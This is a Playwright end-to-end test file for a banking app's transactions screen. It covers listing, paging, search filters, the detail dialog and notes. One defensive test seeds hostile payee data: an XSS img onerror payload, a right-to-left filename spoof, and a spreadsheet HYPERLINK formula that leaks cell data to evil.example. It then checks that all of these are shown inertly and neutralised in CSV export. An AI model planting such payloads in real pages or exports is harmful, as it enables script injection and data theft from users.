import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { after, before, describe, it, type TestContext } from 'node:test';
import type { Browser } from 'playwright-core';
import { alex as names } from '../../sim/household.ts';
import { launchBrowser } from './chromium.ts';
import { limit } from './patience.ts';
import { createStage, persons } from './stage.ts';
import { visit, type Visitor, type VisitorOptions } from './visitor.ts';

describe('the transactions', () => {
  let browser: Browser;
  before(async () => {
    browser = await launchBrowser();
  });
  after(() => browser.close());

  const enter = async (t: TestContext, options: VisitorOptions = {}) => {
    const stage = await createStage(t);
    const { bank } = stage;
    bank.foreignPurchase(names.current, {
      amount: 1_250,
      localAmount: 1_499,
      localCurrency: 'USD',
      merchant: 'Diner',
    });
    bank.decline(names.current, { amount: 99_999, merchant: 'Night Cinema' });
    bank.potMove(names.pots.holiday, 'deposit', { amount: 2_500 });
    bank.salary(names.current, { amount: 210_000 });
    const lunch = bank.purchase(names.current, { amount: 1_234, merchant: 'Blue Door Coffee' });
    bank.annotate(lunch, 'lunch with Sam #work');
    await stage.connect(persons.alex);
    const visitor = await visit(t, browser, options);
    await visitor.signIn(stage.app().signInLink());
    await visitor.goTo('Transactions');
    await visitor.page.locator('.row').first().waitFor();
    return { stage, visitor, lunch };
  };
  const rows = ({ page }: Visitor) => page.locator('.row');
  const shows = ({ page }: Visitor, words: string | RegExp) => page.getByText(words).first().waitFor();

  for (const options of [
    { size: 'desktop', scheme: 'light' },
    { size: 'tablet', scheme: 'dark' },
    { size: 'phone', scheme: 'dark' },
    { size: 'phone', scheme: 'light' },
  ] as const)
    it(`are all there, ${options.size} and ${options.scheme}`, limit, async (t) => {
      const { visitor } = await enter(t, options);
      await visitor.look('transactions');
      await visitor.press('Filters');
      await visitor.look('transactions-filters');
      await visitor.press('Filters');
      await visitor.page.getByRole('link', { name: /Diner/ }).click();
      await shows(visitor, '−US$14.99');
      await visitor.look('transaction');
      assert.deepEqual(visitor.complaints, []);
    });

  it('come page by page, every one of them once', limit, async (t) => {
    const { stage, visitor } = await enter(t);
    const all = stage.app().view().accounts.length;
    assert.ok(all > 0);
    const more = visitor.page.getByRole('button', { name: 'Show more' });
    // The last one goes while it is being pressed.
    while ((await more.count()) > 0) await more.click({ timeout: 1_000 }).catch(() => {});
    await shows(visitor, /that is all/);
    const addresses = await rows(visitor).evaluateAll((links) =>
      links.map((link) => link.getAttribute('href')),
    );
    assert.equal(new Set(addresses).size, addresses.length);
    assert.ok(addresses.length > 180, String(addresses.length));
  });

  it('are found by words and filters, and the address keeps what was asked for', limit, async (t) => {
    const { visitor } = await enter(t);
    const { page } = visitor;
    await visitor.fill('Search transactions', 'lunch');
    await shows(visitor, '1 shown, that is all');
    assert.match(page.url(), /#\/transactions\?q=lunch$/);
    await page.reload();
    await shows(visitor, '1 shown, that is all');
    assert.equal(await page.getByLabel('Search transactions').inputValue(), 'lunch');
    await visitor.fill('Search transactions', '');
    await visitor.press('Filters');
    await page.getByLabel('Counts as').selectOption('Between your own accounts and pots');
    await shows(visitor, '1 shown, that is all');
    await shows(visitor, 'Internal');
    await visitor.press('Remove the filter Counts as: Between your own accounts and pots');
    await visitor.fill('Amount from', '2099.99');
    await visitor.fill('Amount to', '2100');
    await shows(visitor, '1 shown, that is all');
    await shows(visitor, '+£2,100.00');
    await visitor.fill('Amount from', 'a lot');
    await page
      .getByRole('alert')
      .getByText(/must be digits/)
      .waitFor();
    await visitor.press('Clear all');
    await shows(visitor, 'more below');
    assert.match(page.url(), /#\/transactions$/);
    assert.deepEqual(visitor.complaints, []);
  });

  it('open beside the list, with Monzo’s own object, and close to where one was', limit, async (t) => {
    const { visitor, lunch } = await enter(t, { keyboard: true });
    const { page } = visitor;
    await visitor.fill('Search transactions', 'lunch');
    await shows(visitor, '1 shown, that is all');
    await visitor.press(/Blue Door Coffee/, 'link');
    const dialog = page.getByRole('dialog', { name: 'Blue Door Coffee' });
    await dialog.getByText('−£12.34').waitFor();
    assert.match(page.url(), new RegExp(`tx=${lunch}`));
    await dialog.getByText('Data from Monzo').click();
    const raw = JSON.parse(await dialog.locator('pre').innerText()) as { readonly id: string };
    assert.equal(raw.id, lunch);
    await page.keyboard.press('Escape');
    await dialog.waitFor({ state: 'detached' });
    // A closed dialog has no role any more; the address follows a moment later.
    await page.waitForURL((url) => !url.hash.includes('tx='));
    assert.equal(await rows(visitor).and(page.locator(':focus')).count(), 1);
  });

  it('take notes, which are saved at Monzo', limit, async (t) => {
    const { stage, visitor, lunch } = await enter(t);
    await visitor.page.goto(`${stage.app().uiUrl}/#/transactions?tx=${lunch}`);
    const dialog = visitor.page.getByRole('dialog', { name: 'Blue Door Coffee' });
    const notes = dialog.getByLabel('Notes');
    await notes.waitFor();
    assert.equal(await notes.inputValue(), 'lunch with Sam #work');
    await notes.fill('lunch with nobody');
    await dialog.getByRole('button', { name: 'Save the notes' }).click();
    await shows(visitor, 'The notes are saved.');
    await visitor.press('Close');
    await shows(visitor, 'lunch with nobody');
    assert.equal(stage.bank.model.transactions.get(lunch)?.notes, 'lunch with nobody');
  });

  it('show and export whatever strangers write as text, and nothing else', limit, async (t) => {
    const { stage, visitor } = await enter(t);
    const { page } = visitor;
    const name = `<img src=x onerror="document.title='owned'"> \u202Egnp.exe\u0000`;
    const reference = '=HYPERLINK("http://evil.example/?"&A1,"click")';
    stage.bank.incomingPayment(names.current, { amount: 1, name, reference });
    stage.bank.incomingPayment(names.current, {
      amount: 2,
      name: `${'long '.repeat(2_000)}end`,
      reference: '',
    });
    await shows(visitor, /<img src=x onerror/);
    await shows(visitor, /long long/);
    await visitor.look('transactions-hostile');
    await page
      .getByText(/<img src=x/)
      .first()
      .click();
    const dialog = page.getByRole('dialog');
    await dialog.getByText('+£0.01').waitFor();
    await dialog.getByText('Data from Monzo').click();
    await visitor.look('transaction-hostile');
    await visitor.press('Close');
    await page
      .getByText(/long long/)
      .first()
      .click();
    await page.getByRole('dialog').getByText('+£0.02').waitFor();
    await visitor.look('transaction-long');
    await visitor.press('Close');
    assert.equal(await page.locator('img').count(), 0);
    assert.doesNotMatch(await page.title(), /owned/);
    assert.deepEqual(visitor.complaints, []);
    const csv = await exported(visitor, 'CSV');
    const json = await exported(visitor, 'JSON');
    assert.ok(csv.includes('HYPERLINK'));
    assert.doesNotMatch(csv, /(^|[,"\n])=HYPERLINK/);
    const rows = JSON.parse(json) as readonly {
      readonly description: string;
      readonly amount_minor: number;
    }[];
    assert.ok(rows.some(({ amount_minor: amount }) => amount === 1));
    assert.ok(json.includes('HYPERLINK'));
  });

  /** The file that a link gives. */
  const exported = async ({ page }: Visitor, format: string): Promise<string> => {
    const waiting = page.waitForEvent('download');
    await page.getByRole('link', { name: `Export all that matches as ${format}` }).click();
    return readFileSync(await (await waiting).path(), 'utf8');
  };
});
